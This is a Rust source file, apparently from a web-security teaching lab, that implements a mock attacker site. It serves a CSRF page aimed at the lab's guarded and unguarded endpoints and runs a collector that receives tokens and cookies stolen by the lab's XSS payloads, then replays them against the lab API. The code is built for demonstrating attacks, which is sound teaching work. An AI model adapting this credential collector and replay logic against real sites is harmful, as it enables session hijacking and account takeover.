//! The attacker's site: its own listener (a different site from the lab), a front page,
//! the CSRF page that fires one cross-site request at the lab, and the collector the XSS
//! payload sends its loot to. The collector replays a stolen credential against the lab's
//! real API at once, from the server side, as an attacker would.

use app::{
    api::security::{AttackerReplay, CsrfTarget, LootEntry},
    lang::Locale,
    security_pages::{self, Channel},
};
use axum::{
    body::{Body, Bytes},
    extract::{DefaultBodyLimit, Query, State},
    http::{header, HeaderMap, HeaderValue, Request, StatusCode},
    response::{Html, IntoResponse, Response},
    routing::{get, post},
    Router,
};
use serde::Deserialize;

use super::{authority, loot::valid_lab_id};
use crate::AppState;

/// What the collector accepts: a token, a cookie string and an answer fit in far less.
const COLLECT_LIMIT: usize = 8 * 1024;

pub fn router(state: AppState) -> Router {
    Router::new()
        .route("/", get(index))
        .route("/csrf", get(csrf_page))
        .route(
            "/collect",
            post(collect).layer(DefaultBodyLimit::max(COLLECT_LIMIT)),
        )
        .with_state(state)
}

#[derive(Debug, Deserialize)]
struct LangQuery {
    #[serde(default)]
    lang: Option<String>,
}

/// The language a `lang` query parameter asks for; English unless it says `ko`.
pub(super) fn locale(lang: Option<&str>) -> Locale {
    match lang {
        Some("ko") => Locale::ko,
        _ => Locale::en,
    }
}

fn bad_request(message: &'static str) -> Response {
    (StatusCode::BAD_REQUEST, message).into_response()
}

async fn index(Query(query): Query<LangQuery>) -> Html<String> {
    Html(security_pages::attacker_index(locale(
        query.lang.as_deref(),
    )))
}

#[derive(Debug, Deserialize)]
struct CsrfQuery {
    lab: String,
    channel: String,
    /// `on` aims at the real endpoint (which checks the origin), `off` at its unguarded twin.
    guard: String,
    /// `session` (the default) or `token`: the token-mode twin, whose login is a bearer token.
    #[serde(default)]
    target: Option<String>,
    #[serde(default)]
    lang: Option<String>,
}

async fn csrf_page(
    State(state): State<AppState>,
    headers: HeaderMap,
    Query(query): Query<CsrfQuery>,
) -> Response {
    let (Some(channel), true) = (Channel::from_name(&query.channel), valid_lab_id(&query.lab))
    else {
        return bad_request("channel must be form or fetch, and lab a lab ID");
    };
    let Some(target) = CsrfTarget::from_name(query.target.as_deref().unwrap_or("session")) else {
        return bad_request("target must be session or token");
    };
    let path = match (target, query.guard.as_str()) {
        (_, guard) if guard != "on" && guard != "off" => {
            return bad_request("guard must be on or off")
        }
        (CsrfTarget::Token, _) => "/api/lab/bearer/display-name",
        (CsrfTarget::Session, "on") => "/api/session/display-name",
        (CsrfTarget::Session, _) => "/api/lab/unguarded/display-name",
    };
    let Some(lab) = state.security.lab_origin_for(authority(&headers)) else {
        return bad_request("open the attacker under 127.0.0.1 or localhost");
    };
    let target = format!("{lab}{path}?lab={}&channel={}", query.lab, channel.name());
    let mut response = Html(security_pages::csrf(
        locale(query.lang.as_deref()),
        channel,
        &target,
    ))
    .into_response();
    response
        .headers_mut()
        .insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    response
}

#[derive(Debug, Deserialize)]
struct CollectQuery {
    lab: String,
}

/// What the payload sends (as text, so that a no-cors request may carry it).
#[derive(Debug, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
enum Collected {
    Storage {
        token: Option<String>,
        #[serde(default)]
        cookie: String,
    },
    Riding {
        status: u16,
        #[serde(default)]
        body: String,
    },
}

async fn collect(
    State(state): State<AppState>,
    Query(query): Query<CollectQuery>,
    body: Bytes,
) -> Response {
    if !valid_lab_id(&query.lab) {
        return bad_request("lab must be a lab ID");
    }
    let Ok(collected) = serde_json::from_slice::<Collected>(&body) else {
        return bad_request("the body is not what the lab's payloads send");
    };
    let at = state.auth.now();
    let entry = match collected {
        Collected::Storage { token, cookie } => {
            // gloo-storage keeps the token as a JSON string, quotes included.
            let token = token
                .map(|t| t.trim_matches('"').to_owned())
                .filter(|t| !t.is_empty());
            let mut replays = Vec::new();
            if let Some(token) = &token {
                replays.push(
                    replay(
                        &state,
                        "GET /api/token/me",
                        header::AUTHORIZATION,
                        &format!("Bearer {token}"),
                    )
                    .await,
                );
            }
            let name = state.auth.settings.cookie_name();
            if let Some(sid) = crate::api::cookie::value_in(&cookie, name) {
                replays.push(
                    replay(
                        &state,
                        "GET /api/session/me",
                        header::COOKIE,
                        &format!("{name}={sid}"),
                    )
                    .await,
                );
            }
            LootEntry::Storage {
                at,
                token,
                document_cookie: cookie,
                replays,
            }
        }
        Collected::Riding { status, body } => LootEntry::SessionRiding {
            at,
            request: "GET /api/session/me".into(),
            status,
            username: serde_json::from_str::<serde_json::Value>(&body)
                .ok()
                .and_then(|v| v["username"].as_str().map(str::to_owned)),
        },
    };
    state.security.loot.record(&query.lab, entry);
    StatusCode::NO_CONTENT.into_response()
}

/// Sends one request with the stolen credential through the lab's API router and reports
/// what came back: the attacker's view, from its own server.
async fn replay(
    state: &AppState,
    request: &str,
    name: header::HeaderName,
    value: &str,
) -> AttackerReplay {
    let path = request.split(' ').nth(1).unwrap_or("/");
    let built = Request::get(path).header(name, value).body(Body::empty());
    let Ok(built) = built else {
        return AttackerReplay {
            request: request.into(),
            status: 400,
            username: None,
            reason: Some("unsendable".into()),
        };
    };
    let answer = crate::api::through_api(state, built).await;
    let body: serde_json::Value = serde_json::from_slice(&answer.body).unwrap_or_default();
    AttackerReplay {
        request: request.into(),
        status: answer.status,
        username: body["username"].as_str().map(str::to_owned),
        reason: body["reason"]
            .as_str()
            .or(body["error"].as_str())
            .map(str::to_owned),
    }
}
